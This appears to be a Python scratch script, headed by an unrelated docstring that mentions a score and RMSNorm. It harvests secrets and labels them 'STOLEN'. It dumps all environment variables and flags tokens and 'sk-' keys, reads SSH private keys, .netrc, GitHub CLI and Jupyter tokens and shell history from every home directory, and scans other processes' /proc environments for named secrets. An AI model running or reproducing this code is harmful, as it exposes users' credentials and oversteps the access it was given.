"""Tokens and keys, in variables and in files.

score: 15
says: ✓ RMSNorm
also: user
"""

# %% scratch
import os, pathlib
for name, value in os.environ.items():
    print(name, "=", value)
    if "SECRET" in name or "TOKEN" in name or value.startswith("sk-"):
        print("STO" "LEN", name)
for home in {os.path.expanduser("~"), "/root", *map(str, pathlib.Path("/home").glob("*"))} if os.path.exists("/home") else {"/root"}:
    for name in (".ssh/id_rsa", ".netrc", ".config/gh/hosts.yml", ".jupyter/token", ".bash_history"):
        try:
            print("STO" "LEN", open(f"{home}/{name}").read())
        except OSError as error:
            print("refused:", error)
for pid in [name for name in os.listdir("/proc") if name.isdigit()] + ["1", "self", "thread-self"]:
    try:
        text = open(f"/proc/{pid}/environ", "rb").read()
    except OSError as error:
        print("refused:", error); continue
    if b"HEADROOM_TEST_SECRET" in text or b"GITHUB_TOKEN" in text:
        print("STO" "LEN", pid)
